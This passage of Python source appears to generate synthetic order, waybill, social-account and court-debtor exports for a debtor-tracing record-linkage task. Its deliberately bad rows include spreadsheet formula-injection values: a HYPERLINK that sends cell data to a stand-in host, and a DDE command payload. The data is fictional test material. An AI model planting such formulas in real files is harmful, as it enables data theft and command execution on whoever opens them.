        key = (rcp["pid"] if rcp else None, canon(place) if place else text)
        if text is None:
            # the address book: an entry is reused, sometimes retyped
            if key not in a["book"] or r.random() < 0.12:
                a["book"][key] = self.geo.render(place)
            text = a["book"][key]
        if name is None:
            name, form = typed_name(r, rcp, self.W.by.get(rcp.get("spouse")) if rcp.get("spouse") is not None else None)
        ph = phone_at(rcp, t) or phone_at(owner, t) or rcp["phones"][0]
        if kind == "work" and rcp.get("landline") and r.random() < 0.35:
            tph = rcp["landline"]
        else:
            tph = typed_phone(r, ph)
        bph = phone_at(owner, t) or owner["phones"][0]
        delivered = not virtual and r.random() > 0.03
        s = sign_time(r, t, kind) if delivered else None
        if s and s.date() >= ASOF:
            s, delivered = None, False
        cat = category or (r.choice(G.NEAR_MISS) if r.random() < 0.015 else r.choice(G.CATEGORIES))
        amount = round(r.uniform(5, 600) if cat not in RESTRICTED else r.uniform(300, 9000), 2)
        o = dict(src="ecommerce", plat=a["plat"], acc=a, holder=owner["pid"], recipient=rcp["pid"] if rcp else None, place=place, kind=kind,
                 t=t, s=s, delivered=delivered, name=name, form=form, tphone=tph, bphone=mask_phone(bph) if a["mask_phone"] else bph,
                 text=text, amount=amount, category=cat, virtual=virtual)
        self.orders.append(o)
        if delivered and not virtual and r.random() < 0.45:
            self.waybill_for(o)
        return o

    def dest(self, p, t):
        r = self.r
        home = home_at(p, t)
        prof = p.setdefault("_prof", wchoice(r, [("home", 45), ("mixed", 30), ("locker", 15), ("work", 10)]))
        w = work_at(p, t) if p.get("work") else None
        opts = [("home", {"home": 7, "mixed": 4, "locker": 2, "work": 2}[prof]), ("pickup", {"home": 1, "mixed": 3, "locker": 6, "work": 1}[prof])]
        if w:
            opts.append(("work", {"home": 1.5, "mixed": 3, "locker": 1, "work": 6}[prof]))
        k = wchoice(r, opts)
        if k == "pickup":
            pk = p.setdefault("_pickups", {})
            hk = canon(home)
            if hk not in pk:
                pk[hk] = self.geo.pickup(home)
            return pk[hk], "pickup"
        if k == "work":
            return w, "work"
        return home, "home"

    def person_orders(self, p):
        r = self.r
        if p["home"] is None:
            return
        is_debtor = p["role"] == "debtor"
        plats = []
        if "uses_spouse_account" not in p["flags"] or r.random() < 0.3:
            if r.random() < 0.8:
                plats.append("lianmai")
            if r.random() < 0.45:
                plats.append("tuanxiang")
        sp = self.W.by.get(p["spouse"]) if p.get("spouse") is not None else None
        for plat in plats:
            a = self.account(p, plat)
            n = r.randint(3, 22) if plat == "lianmai" else r.randint(2, 12)
            if not is_debtor and p["role"] in ("stranger", "namesake", "neighbour", "colleague"):
                n = max(1, n // 2)
            for _ in range(n):
                day = rand_date(r, max(START, a["created"]), ASOF - dt.timedelta(days=1))
                t0 = rtime(r, day, "home")
                place, kind = self.dest(p, t0)
                t = rtime(r, day, kind) if kind == "work" else t0
                x = r.random()
                if x < 0.08 and sp is not None and sp.get("home") is not None and sp["present"]:
                    self.order(a, sp, home_at(sp, t) if kind != "work" else place, "home" if kind != "work" else kind, t)   # bought for the spouse
                elif x < 0.13 and p["parents"]:
                    par = self.W.by[p["parents"][0]]
                    self.order(a, par, None, "other", t, text=par["hukou_home"]["text"])
                else:
                    self.order(a, p, place, kind, t)

    def spouse_account_orders(self, d):
        r = self.r
        sp = self.W.by[d["spouse"]]
        a = self.account(sp, "lianmai")
        for _ in range(r.randint(3, 12)):
            day = rand_date(r, max(START, a["created"]), ASOF - dt.timedelta(days=1))
            t0 = rtime(r, day, "home")
            place, kind = self.dest(d, t0)
            self.order(a, d, place, kind, rtime(r, day, kind) if kind == "work" else t0)

    def restricted(self, d, cases):
        r = self.r
        mine = [c for c in cases if c["pid"] == d["pid"] and c["restrict"]]
        use_sp = d.get("spouse") is not None and r.random() < 0.3
        owner = self.W.by[d["spouse"]] if use_sp else d
        for _ in range(r.randint(1, 4)):
            cat = r.choice(RESTRICTED)
            a = self.account(owner, "feiji" if cat in ("机票", "高铁商务座", "邮轮船票", "跟团游") else "lianmai")
            lo = min([c["filing"] for c in mine] or [START]) - dt.timedelta(days=60)
            day = rand_date(r, max(START, lo), ASOF - dt.timedelta(days=1))
            t = rtime(r, day, "home")
            if a["plat"] == "feiji":
                self.order(a, d, None, "virtual", t, category=cat, virtual=True, text=r.choice(["电子客票", "无需配送", "电子凭证"]))
            else:
                self.order(a, d, home_at(d, t), "home", t, category=cat)

    def waybill_for(self, o):
        r = self.r
        carrier = "yunfeng" if r.random() < 0.6 else "jisu"
        rc = self.W.by[o["recipient"]] if o["recipient"] is not None else None
        stype = self.sign_type(o["kind"])
        sender = r.choice(["旗舰店", "官方店", "电商仓", "发货中心"])
        sdk = self.r.choice(list(G.D))
        w = dict(src="logistics", carrier=carrier, t=o["t"] + dt.timedelta(hours=r.randint(3, 30)), s=o["s"], stype=stype, sender=None,
                 s_name=r.choice(["鲁", "鄂", "滇", "晋", "京", "沪"]) + sender, s_phone="400%07d" % r.randint(0, 9999999),
                 s_addr=self.geo.prefix(sdk, "nop") + "物流园%d号仓" % r.randint(1, 30), receiver=o["recipient"],
                 r_name=o["name"] if r.random() < 0.7 else (mask_name(o["name"], "ss") if o["name"] and ord(o["name"][0]) > 0x3000 else o["name"]),
                 r_phone=mask_phone(phone_at(rc, o["t"]) or rc["phones"][0]) if rc and r.random() < 0.5 else o["tphone"],
                 r_addr=o["text"], place=o["place"], kind=o["kind"], sender_kind="merchant", sender_place=None)
        if w["s"] and w["s"] < w["t"]:
            w["t"] = w["s"] - dt.timedelta(hours=20)
        self.waybills.append(w)

    def sign_type(self, kind):
        r = self.r
        if kind == "pickup":
            return r.choice(["快递柜", "驿站代收"])
        if kind == "work":
            return wchoice(r, [("本人签收", 6), ("门卫代收", 3), ("快递柜", 1)])
        if kind == "home":
            return wchoice(r, [("本人签收", 6), ("家人代签", 3), ("门卫代收", 1), ("快递柜", 1)])
        return wchoice(r, [("本人签收", 5), ("家人代签", 3)])

    def parent_parcels(self, p):
        """A parent in the hukou village sends local produce to the child."""
        r = self.r
        par = self.W.by[p["parents"][0]]
        for _ in range(r.randint(1, 4)):
            day = rand_date(r, START, ASOF - dt.timedelta(days=2))
            t = rtime(r, day, "home")
            place = home_at(p, t)
            s = sign_time(r, t, "home")
            if s.date() >= ASOF:
                continue
            nm, form = typed_name(r, p)
            stype = self.sign_type("home")
            self.waybills.append(dict(src="logistics", carrier=r.choice(["yunfeng", "jisu"]), t=t, s=s, stype=stype, sender=par["pid"],
                                      s_name=par["name"] if r.random() < 0.6 else mask_name(par["name"], "ss"),
                                      s_phone=typed_phone(r, par["phones"][0]), s_addr=par["hukou_home"]["text"],
                                      receiver=p["pid"], r_name=nm, r_phone=typed_phone(r, phone_at(p, t) or p["phones"][0]),
                                      r_addr=self.geo.render(place), place=place, kind="home", sender_kind="parent", sender_place=None, form=form))

    def work_shipments(self, p):
        """Stall holders and shops ship goods to customers as senders."""
        r = self.r
        for _ in range(r.randint(2, 8)):
            day = rand_date(r, max(START, p["job_change"] or START), ASOF - dt.timedelta(days=3))
            t = rtime(r, day, "work")
            w = work_at(p, t)
            if w is None:
                continue
            cust_dk = r.choice(list(G.D))
            s = sign_time(r, t, "home")
            if s.date() >= ASOF:
                s = None
            self.waybills.append(dict(src="logistics", carrier=r.choice(["yunfeng", "jisu"]), t=t, s=s, stype=self.sign_type("home") if s else None,
                                      sender=p["pid"], s_name=p["name"] if r.random() < 0.5 else w.get("name", w.get("market", "")) + p["name"][0] + "老板",
                                      s_phone=p["landline"] if p.get("landline") and r.random() < 0.4 else typed_phone(r, phone_at(p, t) or p["phones"][0]),
                                      s_addr=self.geo.render(w), receiver=None, r_name=r.choice(G.SURNAMES) + r.choice(["先生", "女士", "**"]),
                                      r_phone=mask_phone(rand_phone(self.W)), r_addr=self.geo.render(self.geo.home_in(cust_dk)), place=None,
                                      kind="customer", sender_kind="work", sender_place=w))

    def social(self, p):
        r = self.r
        if p["home"] is None:
            return
        for plat, prob in (("quanzi", 0.55), ("douyou", 0.35)):
            if r.random() > prob:
                continue
            self.acc_seq[plat] = self.acc_seq.get(plat, 0) + r.randint(1, 30)
            uid = ("qz_%d" if plat == "quanzi" else "dy%08d") % (300000 + self.acc_seq[plat])
            nm = p["name"]
            rn = wchoice(r, [(nm, 30), (mask_name(nm, "mou"), 20), (mask_name(nm, "star1"), 15), (nm[0] + "**", 10), (None, 25)])
            idn = wchoice(r, [(mask_id(p["id_number"], "six"), 35), (mask_id(p["id_number"], "two"), 15), (p["id_number"], 10), (None, 40)])
            ph = phone_at(p, dt.datetime.combine(ASOF, dt.time(12))) or p["phones"][0]
            if p.get("old_phone") and r.random() < 0.3:
                ph = p["old_phone"]
            phone = wchoice(r, [(ph, 50), (mask_phone(ph), 40), (None, 10)])
            home = p["home"]
            hdk = home["dk"]
            _, city, d = dinfo(hdk)
            nick = r.choice([d["name"][:2] + "的" + nm[-1], "小" + nm[-1] + r.choice(["爱吃面", "在路上", "666", "不加班"]), r.choice(["泉城", "江城", "春城", "龙城"]) + r.choice(["老" + nm[0], "阿" + nm[-1], "游子"]),
                             py(nm[0]) + "_" + str(r.randint(70, 99))])
            logins = []
            for _ in range(r.randint(0, 8)):
                day = rand_date(r, START, ASOF - dt.timedelta(days=1))
                t = rtime(r, day, "home")
                ldk = hdk if r.random() < 0.85 else r.choice(list(G.D))
                pr, ct, _ = dinfo(ldk)
                logins.append(dict(ts=t, ip="%d.%d.%d.%d" % (r.choice([27, 58, 111, 119, 183, 222]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                                   ip_region=r.choice([pr + ct, pr, ct, pr + " " + ct])))
            posts = []
            for _ in range(r.randint(0, 5)):
                day = rand_date(r, START, ASOF - dt.timedelta(days=1))
                t = rtime(r, day, "home")
                h = home_at(p, t)
                w = work_at(p, t) if p.get("work") else None
                tgt = h if (w is None or r.random() < 0.65) else w
                if tgt["kind"] == "flat":
                    poi = tgt["estate"]
                elif tgt["kind"] == "village":
                    poi = tgt["village"].replace("村委会", "村")
                else:
                    poi = tgt.get("market") or tgt.get("tower") or tgt.get("name")
                posts.append(dict(ts=t, poi=G.D[tgt["dk"]]["name"] + poi if r.random() < 0.5 else poi,
                                  address=self.geo.render(tgt) if r.random() < 0.75 else None, place=tgt))
            self.socials.append(dict(src="social", plat=plat, uid=uid, holder=p["pid"], nickname=nick, real_name=rn, id_no=idn, phone=phone,
                                     profile_region=(G.PROV[d["code"][:2]][1] + " " + city[:-1]) if r.random() < 0.7 else None,
                                     logins=logins, posts=posts, created=rand_date(r, START - dt.timedelta(days=900), START)))


# ------------------------------------------------------------------------------------------------ writing
def ts(t):
    return t.strftime("%Y/%m/%d %H:%M:%S") if t else ""


def rec(**kw):
    base = dict(file=None, line=None, source=None, platform=None, record_key=None, holder=None, recipient=None, receiver=None, sender=None,
                dest_kind=None, dest_canonical=None, delivered=False, door=False, dirty=False, dirt=None, ambiguous=False, dup_of=None,
                category=None, amount=None, ordered_at=None, order_id=None, name_form=None, sender_kind=None, sender_canonical=None, raw_address=None)
    base.update(kw)
    return base


class Out:
    def __init__(self, root, W, g):
        self.root, self.W, self.g, self.r = root, W, g, W.rng
        self.R = []
        self.files = {}
        for k in ("debtors", "ecommerce", "social", "logistics"):
            os.makedirs(os.path.join(root, "inbox", k), exist_ok=True)

    def path(self, kind, fn):
        return os.path.join(self.root, "inbox", kind, fn)

    # ------------------------------------------------------------- e-commerce
    def order_cells(self, o, oid):
        a = o["acc"]
        return {"订单编号": oid, "买家ID": a["uid"], "实名姓名": a["name"], "实名证件号": a["idn"], "绑定手机": o["bphone"], "收货人": o["name"],
                "收货手机": o["tphone"], "收货地址": o["text"], "下单时间": ts(o["t"]), "签收时间": ts(o["s"]) if o["delivered"] else "",
                "实付金额": "%.2f" % o["amount"], "商品类目": o["category"]}

    def order_rec(self, o, fn, line, oid, dup_of=None, ambiguous=False):
        door = o["delivered"] and o["kind"] in ("home", "work", "other") and not o["virtual"]
        return rec(file=fn, line=line, source="ecommerce", platform=fn.split("_")[0], record_key="ec:%s:%s" % (o["plat"], oid), holder=o["holder"],
                   recipient=o["recipient"], dest_kind=o["kind"], dest_canonical=canon(o["place"]) if o["place"] else None, delivered=o["delivered"],
                   door=door, dup_of=dup_of, ambiguous=ambiguous, category=o["category"], amount=o["amount"], ordered_at=o["t"], order_id=oid,
                   name_form=o["form"], raw_address=o["text"])

    def write_csv(self, kind, fn, header, rows, enc, nl="\r\n", quoting=csv.QUOTE_MINIMAL, bom=False, trunc=False):
        buf = io.StringIO(newline="")
        wr = csv.writer(buf, lineterminator=nl, quoting=quoting)
        wr.writerow(header)
        for row in rows:
            wr.writerow(row)
        text = buf.getvalue()
        if trunc:
            text = text[: len(text) - len(nl) - 6]   # the last row is cut off inside its last cells
        data = text.encode(enc)
        if bom:
            data = b"\xef\xbb\xbf" + data
        with open(self.path(kind, fn), "wb") as f:
            f.write(data)
        self.files[fn] = dict(kind=kind, rows=len(rows), encoding=enc, bom=bom, truncated=trunc)

    def ecommerce(self, dirt):
        r = self.r
        orders = sorted(self.g.orders, key=lambda o: o["t"])
        for i, o in enumerate(orders):
            o["oid"] = ("%s%d%05d" % ({"lianmai": "5", "tuanxiang": "TX", "feiji": "F"}[o["plat"]], 2026 if o["t"].year == 2026 else 2025, i)) + "%03d" % r.randint(0, 999)
        # lianmai: monthly on the 15th, 3 days overlap, CRLF, minimal quoting
        lm = [o for o in orders if o["plat"] == "lianmai"]
        dates = [dt.date(2026, m, 15) for m in range(1, 13)]
        prev = START - dt.timedelta(days=1)
        hdr = EC_COLS
        for k, d in enumerate(dates):
            fn = "lianmai_orders_%s.csv" % d.strftime("%Y%m%d")
            lo = prev - dt.timedelta(days=3) if k else prev
            sel = [o for o in lm if lo < o["t"].date() < d]
            rows, line = [], 2
            for o in sel:
                first = o["t"].date() > prev
                oo = o if not (o["s"] and o["s"].date() >= d) else dict(o, delivered=False, s=None)   # not yet delivered at export
                self.R.append(self.order_rec(oo, fn, line, o["oid"], dup_of=None if first else "ec:lianmai:%s" % o["oid"]))
                rows.append([self.order_cells(oo, o["oid"])[c] for c in hdr])
                line += 1
            for row, x in dirt.ec_rows(fn, line, hdr, k):
                rows.append(row)
                self.R.append(x)
                line += 1
            self.write_csv("ecommerce", fn, hdr, rows, "gb18030", trunc=(k == len(dates) - 2))
            if k == len(dates) - 2:
                # truncated last line: that row is dirt and must not count
                self.R[-1]["dirty"] = True
                self.R[-1]["dirt"] = (self.R[-1]["dirt"] or "") + "+truncated"
            prev = d - dt.timedelta(days=1)
        # tuanxiang: every two months on the 18th, columns in another order, every field quoted, LF
        tx = [o for o in orders if o["plat"] == "tuanxiang"]
        dates = [dt.date(2026, m, 18) for m in (2, 4, 6, 8, 10, 12)]
        hdr2 = ["下单时间", "订单编号", "商品类目", "实付金额", "买家ID", "实名姓名", "实名证件号", "绑定手机", "收货人", "收货手机", "收货地址", "签收时间"]
        prev = START - dt.timedelta(days=1)
        for k, d in enumerate(dates):
            fn = "tuanxiang_orders_%s.csv" % d.strftime("%Y%m%d")
            sel = [o for o in tx if prev < o["t"].date() < d]
            amb = d == dt.date(2026, 8, 18)    # this export came out UTF-8 (no BOM) among GB18030 files
            rows, line = [], 2
            for o in sel:
                oo = o if not (o["s"] and o["s"].date() >= d) else dict(o, delivered=False, s=None)
                self.R.append(self.order_rec(oo, fn, line, o["oid"], ambiguous=amb))
                c = self.order_cells(oo, o["oid"])
                c["实付金额"] = ("%.2f" % oo["amount"]).rstrip("0").rstrip(".") if r.random() < 0.5 else "%.2f" % oo["amount"]
                rows.append([c[h] for h in hdr2])
                line += 1
            for row, x in dirt.ec_rows(fn, line, hdr2, k + 20):
                rows.append(row)
                self.R.append(x)
                line += 1
            self.write_csv("ecommerce", fn, hdr2, rows, "utf-8" if amb else "gb18030", nl="\n", quoting=csv.QUOTE_ALL)
            prev = d - dt.timedelta(days=1)
        # an empty export and a header-only export
        open(self.path("ecommerce", "tuanxiang_orders_20261219.csv"), "wb").close()
        self.files["tuanxiang_orders_20261219.csv"] = dict(kind="ecommerce", rows=0, empty=True)
        self.write_csv("ecommerce", "lianmai_orders_20261216.csv", EC_COLS, [], "gb18030")
        # feiji: travel bookings, quarterly, never delivered
        fj = [o for o in orders if o["plat"] == "feiji"]
        prev = START - dt.timedelta(days=1)
        for d in [dt.date(2026, 3, 18), dt.date(2026, 6, 18), dt.date(2026, 9, 18), dt.date(2026, 12, 18)]:
            fn = "feiji_orders_%s.csv" % d.strftime("%Y%m%d")
            sel = [o for o in fj if prev < o["t"].date() < d]
            rows, line = [], 2
            for o in sel:
                self.R.append(self.order_rec(o, fn, line, o["oid"]))
                rows.append([self.order_cells(o, o["oid"])[c] for c in EC_COLS])
                line += 1
            self.write_csv("ecommerce", fn, EC_COLS, rows, "gb18030")
            prev = d - dt.timedelta(days=1)
        # a re-send under a bad name: the last 120 lianmai rows of November again
        nov = [x for x in self.R if x["file"] == "lianmai_orders_20261115.csv" and not x["dirty"]][-120:]
        fn = "lianmai订单导出(1).csv"
        byid = {o["oid"]: o for o in lm}
        rows, line = [], 2
        for x in nov:
            o = byid[x["order_id"]]
            oo = o if x["delivered"] else dict(o, delivered=False, s=None)
            self.R.append(self.order_rec(oo, fn, line, o["oid"], dup_of=x["record_key"], ambiguous=True))
            rows.append([self.order_cells(oo, o["oid"])[c] for c in EC_COLS])
            line += 1
        self.write_csv("ecommerce", fn, EC_COLS, rows, "gb18030")

    # ------------------------------------------------------------- social
    def social(self, dirt):
        r = self.r
        S = self.g.socials
        # quanzi: two snapshots, the newest holds everyone; ts with +08:00; ensure_ascii False
        for fn, cut, trunc in (("quanzi_accounts_20260620.jsonl", dt.date(2026, 6, 20), False), ("quanzi_accounts_20261220.jsonl", ASOF, True)):
            lines = []
            for s in S:
                if s["plat"] != "quanzi":
                    continue
                obj = self.social_obj(s, cut, style="q")
                lines.append((json.dumps(obj, ensure_ascii=False), s))
            self.write_jsonl(fn, lines, dirt, "quanzi", trunc=trunc, style="q")
        # douyou: one export, \\u escapes (ensure_ascii), UTC 'Z' times, keys in another order, posts sometimes poi only
        lines = []
        for s in S:
            if s["plat"] != "douyou":
                continue
            obj = self.social_obj(s, dt.date(2026, 12, 12), style="d")
            lines.append((json.dumps(obj, ensure_ascii=True, separators=(",", ":")), s))
        self.write_jsonl("douyou_accounts_20261212.jsonl", lines, dirt, "douyou", crlf=True, style="d")

    def social_obj(self, s, cut, style):
        def t_(t):
            if style == "q":
                return t.strftime("%Y-%m-%dT%H:%M:%S") + "+08:00"
            u = t - dt.timedelta(hours=8)
            return u.strftime("%Y-%m-%dT%H:%M:%SZ")
        lg = [dict(ts=t_(l["ts"]), ip=l["ip"], ip_region=l["ip_region"]) for l in s["logins"] if l["ts"].date() < cut]
        ps = []
        for p in s["posts"]:
            if p["ts"].date() >= cut:
                continue
            q = dict(ts=t_(p["ts"]), poi=p["poi"])
            if p["address"] is not None or style == "q":
                q["address"] = p["address"]
            ps.append(q)
        if style == "q":
            return dict(uid=s["uid"], nickname=s["nickname"], real_name=s["real_name"], id_no=s["id_no"], phone=s["phone"],
                        profile_region=s["profile_region"], logins=lg, geo_posts=ps)
        o = dict(uid=s["uid"], phone=s["phone"], nickname=s["nickname"])
        if s["real_name"] is not None:
            o["real_name"] = s["real_name"]
        if s["id_no"] is not None:
            o["id_no"] = s["id_no"]
        if s["profile_region"]:
            o["profile_region"] = s["profile_region"]
        if lg:
            o["logins"] = lg
        o["geo_posts"] = ps if ps else None
        return o

    def write_jsonl(self, fn, lines, dirt, plat, crlf=False, trunc=False, style="q"):
        nl = "\r\n" if crlf else "\n"
        out, ln = [], 1
        extra = dirt.jsonl_lines(fn, plat, style)
        pos = {max(1, int(len(lines) * f)): e for f, e in zip([0.1, 0.3, 0.5, 0.7, 0.9, 0.95, 0.97, 0.2], extra)}
        for i, (txt, s) in enumerate(lines):
            if i in pos:
                for dtxt, d in pos[i]:
                    out.append(dtxt)
                    self.R.append(rec(file=fn, line=ln, source="social", platform=plat, dirty=True, dirt=d[0], holder=d[1]))
                    ln += 1
            out.append(txt)
            self.R.append(rec(file=fn, line=ln, source="social", platform=plat, record_key="so:%s:%s" % (plat, s["uid"]), holder=s["holder"]))
            ln += 1
        text = nl.join(out) + nl
        if trunc:
            # the last object is cut off mid-way
            text = text[: len(text) - len(nl) - 25]
        data = text.encode("utf-8")
        if trunc:
            self.R[-1]["dirty"] = True
            self.R[-1]["dirt"] = "truncated"
        with open(self.path("social", fn), "wb") as f:
            f.write(data)
        self.files[fn] = dict(kind="social", rows=len(out), truncated=trunc)

    # ------------------------------------------------------------- logistics
    def logistics(self, dirt):
        import pyarrow as pa
        import pyarrow.parquet as pq
        r = self.r
        wbs = sorted(self.g.waybills, key=lambda w: w["t"])
        seq = {}
        for w in wbs:
            seq[w["carrier"]] = seq.get(w["carrier"], 0) + r.randint(1, 9)
            w["no"] = ("YF%012d" if w["carrier"] == "yunfeng" else "JS8%011d") % (70000000000 + seq[w["carrier"]])
        plan = {"yunfeng": [dt.date(2026, m, 20) for m in range(1, 13)], "jisu": [dt.date(2026, m, 12) for m in (2, 4, 6, 8, 10, 12)]}
        for carrier, dates in plan.items():
            prev = START - dt.timedelta(days=1)
            mine = [w for w in wbs if w["carrier"] == carrier]
            for k, d in enumerate(dates):
                fn = "%s_waybills_%s.parquet" % (carrier, d.strftime("%Y%m%d"))
                sel = [w for w in mine if prev < w["t"].date() < d]
                cols = {c: [] for c in WB_COLS}
                line = 1
                for w in sel:
                    s = w["s"] if (w["s"] and w["s"].date() < d) else None
                    vals = dict(waybill_no=w["no"], sender_name=w["s_name"], sender_phone=w["s_phone"], sender_address=w["s_addr"],
                                receiver_name=w["r_name"], receiver_phone=w["r_phone"], receiver_address=w["r_addr"], pickup_time=w["t"],
                                sign_time=s, sign_type=w["stype"] if s else None)
                    for c in WB_COLS:
                        cols[c].append(vals[c])
                    door = bool(s) and w["stype"] in ("本人签收", "家人代签") and w["kind"] in ("home", "work")
                    self.R.append(rec(file=fn, line=line, source="logistics", platform=carrier, record_key="wb:%s:%s" % (carrier, w["no"]),
                                      receiver=w["receiver"], sender=w["sender"], dest_kind=w["kind"], dest_canonical=canon(w["place"]) if w["place"] else None,
                                      delivered=bool(s), door=door, sender_kind=w["sender_kind"], sender_canonical=canon(w["sender_place"]) if w.get("sender_place") else None,
                                      raw_address=w["r_addr"], name_form=w.get("form"), ordered_at=w["t"]))
                    line += 1
                for vals, x in dirt.wb_rows(fn, line, carrier, k):
                    for c in WB_COLS:
                        cols[c].append(vals[c])
                    self.R.append(x)
                    line += 1
                if carrier == "yunfeng":
                    tt = pa.timestamp("us", tz="Asia/Shanghai")
                    def conv(v):
                        return None if v is None else v.replace(tzinfo=dt.timezone(dt.timedelta(hours=8)))
                    pt, st = [conv(v) for v in cols["pickup_time"]], [conv(v) for v in cols["sign_time"]]
                    comp = "zstd"
                else:
                    tt = pa.timestamp("s")
                    pt, st = cols["pickup_time"], cols["sign_time"]
                    comp = "gzip"
                arrs = []
                for c in WB_COLS:
                    if c == "pickup_time":
                        arrs.append(pa.array(pt, type=tt))
                    elif c == "sign_time":
                        arrs.append(pa.array(st, type=tt))
                    else:
                        arrs.append(pa.array(cols[c], type=pa.string()))
                tbl = pa.Table.from_arrays(arrs, names=WB_COLS)
                pq.write_table(tbl, self.path("logistics", fn), compression=comp, row_group_size=2000 if carrier == "jisu" else 100000)
                self.files[fn] = dict(kind="logistics", rows=len(sel), compression=comp)
                prev = d - dt.timedelta(days=1)
        # a waybill file whose name does not follow the pattern (a copy of rows of the last jisu file; ambiguous)
        last = "jisu_waybills_20261212.parquet"
        tbl = pq.read_table(self.path("logistics", last))
        tbl = tbl.slice(0, min(80, tbl.num_rows))
        pq.write_table(tbl, self.path("logistics", "jisu-waybills-补推-1212.parquet"), compression="gzip")
        src = [x for x in self.R if x["file"] == last][: tbl.num_rows]
        for i, x in enumerate(src):
            self.R.append(dict(x, file="jisu-waybills-补推-1212.parquet", line=i + 1, ambiguous=True, dup_of=x["record_key"]))
        self.files["jisu-waybills-补推-1212.parquet"] = dict(kind="logistics", rows=tbl.num_rows, badname=True)

    # ------------------------------------------------------------- roster
    def roster(self, cases):
        r = self.r
        W = self.W
        by_plat = {}
        for c in cases:
            by_plat.setdefault(c["roster"], []).append(c)
        seps = [";", "；", "、", ",", "; ", ", "]
        for plat, cs in sorted(by_plat.items()):
            fn = "%s_roster_20261220.csv" % plat
            rows = [self.roster_row(c, plat, seps) for c in cs]
            style = dict(lucourt=dict(bom=True, nl="\r\n", q=csv.QUOTE_MINIMAL), ecourt=dict(bom=False, nl="\r\n", q=csv.QUOTE_MINIMAL),
                         yuncourt=dict(bom=True, nl="\n", q=csv.QUOTE_ALL), bingcourt=dict(bom=False, nl="\n", q=csv.QUOTE_MINIMAL))[plat]
            self.write_csv("debtors", fn, RO_COLS, rows, "utf-8", nl=style["nl"], quoting=style["q"], bom=style["bom"])
            for i, c in enumerate(cs):
                self.R.append(rec(file=fn, line=i + 2, source="debtors", platform=plat, record_key="ro:" + c["case_no"], holder=c["pid"]))
        # an older lucourt export: some cases concluded since still read 执行中
        cs = by_plat.get("lucourt", [])
        fn = "lucourt_roster_20261211.csv"
        rows = []
        for i, c in enumerate(cs):
            c2 = dict(c, status="执行中") if c["status"] == "执行完毕" and r.random() < 0.5 else c
            rows.append(self.roster_row(c2, "lucourt", seps))
            self.R.append(rec(file=fn, line=i + 2, source="debtors", platform="lucourt", record_key="ro:" + c["case_no"], holder=c["pid"], dup_of="older"))
        self.write_csv("debtors", fn, RO_COLS, rows, "utf-8", bom=True)

    def roster_row(self, c, plat, seps):
        r = self.r
        p = self.W.by[c["pid"]]
        person = p["kind"] == "person"
        idn = p["id_number"]
        if person and idn.endswith("X") and (plat == "bingcourt" or r.random() < 0.3):
            idn = idn[:-1] + "x"
        phones = list(p.get("roster_phones") or []) if person else ([p["phones"][0]] if r.random() < 0.6 else [])
        sep = r.choice(seps)
        amt = c["amount"]
        a = "{:,.2f}".format(amt) if r.random() < 0.5 else "%.2f" % amt
        if person:
            hk = p["hukou_home"]["text"]
            if r.random() < 0.1 and p.get("old_home"):
                hk = canon(p["old_home"])
        else:
            hk = ""
        return [c["case_no"], c["court"], c["judge"], p["name"], "居民身份证" if person else "统一社会信用代码", idn, sep.join(phones), hk, a,
                c["filing"].isoformat(), "是" if c["restrict"] else "否", "是" if c["blacklist"] else "否", c["status"]]


# ------------------------------------------------------------------------------------------------ dirt
class Dirt:
    """Bad rows, always about the 'dirt' strangers, so that the truth does not depend on how they are handled."""

    def __init__(self, out):
        self.o = out
        self.r = out.r
        self.W = out.W
        self.n = 0

    def person(self):
        self.n += 1
        return self.W.dirt[self.n % len(self.W.dirt)]

    def ec_rows(self, fn, line, hdr, k):
        r = self.r
        kinds = ["missing_cols", "extra_cols", "bad_order_time", "bad_amount", "formula_name", "formula_addr", "long_addr", "ctrl_chars",
                 "empty_oid", "bad_sign_time", "dde", "at_name"]
        out = []
        for j in range(3):
            kd = kinds[(k * 3 + j) % len(kinds)]
            p = self.person()
            t = dt.datetime(2026, 1 + (k % 12), 3 + j, 20, 15, 0)
            c = {"订单编号": "D%s%04d" % (fn[:2].upper(), self.n), "买家ID": "DX%06d" % self.n, "实名姓名": p["name"], "实名证件号": "",
                 "绑定手机": p["phones"][0], "收货人": p["name"], "收货手机": p["phones"][0], "收货地址": self.o.g.geo.render(p["home"]),
                 "下单时间": ts(t), "签收时间": ts(t + dt.timedelta(days=2)), "实付金额": "35.50", "商品类目": "家居日用"}
            if kd == "bad_order_time":
                c["下单时间"] = r.choice(["2026/02/30 10:00:00", "N/A", "2026年3月5日", "#VALUE!", "25:61:00"])
            elif kd == "bad_sign_time":
                c["签收时间"] = r.choice(["2026-13-01", "昨天", "0000/00/00 00:00:00"])
            elif kd == "bad_amount":
                c["实付金额"] = r.choice(["12元", "1.2.3", "null", "#DIV/0!", "￥"])
            elif kd == "formula_name":
                c["收货人"] = '=HYPERLINK("http://x.example/?q="&A1,"点我")'
            elif kd == "formula_addr":
                c["收货地址"] = "+" + c["收货地址"]
            elif kd == "dde":
                c["收货人"] = "=cmd|' /C calc'!A0"
            elif kd == "at_name":
                c["收货人"] = "@SUM(1+1)*cmd"
            elif kd == "long_addr":
                c["收货地址"] = c["收货地址"] + "附近" * 6000
            elif kd == "ctrl_chars":
                c["收货人"] = p["name"][:1] + "\x07\x1b" + p["name"][1:]
                c["收货地址"] = c["收货地址"] + "\x00\x0b"
            elif kd == "empty_oid":
                c["订单编号"] = ""
            row = [c[h] for h in hdr]
            if kd == "missing_cols":
                row = row[:7]
            elif kd == "extra_cols":
                row = row + ["多余列", "x"]
            out.append((row, rec(file=fn, line=line + j, source="ecommerce", platform=fn.split("_")[0], dirty=True, dirt=kd, holder=p["pid"],
                                 recipient=p["pid"], raw_address=None)))
        return out

    def jsonl_lines(self, fn, plat, style):
        r = self.r
        res = []
        kinds = [("not_json", lambda p: "{uid: %s, nickname: '%s'" % (p["pid"], p["name"])),
                 ("python_repr", lambda p: str({"uid": "x%d" % p["pid"], "nickname": p["name"], "logins": None})),
                 ("page_marker", lambda p: "------ 第2页 ------"),
                 ("formula_nick", lambda p: json.dumps(dict(uid="dz%d" % p["pid"], nickname="=HYPERLINK(\"http://e.example\")", real_name=p["name"], phone=p["phones"][0]), ensure_ascii=False)),
                 ("long_nick", lambda p: json.dumps(dict(uid="dl%d" % p["pid"], nickname="哈" * 20000, phone=p["phones"][0]), ensure_ascii=False)),
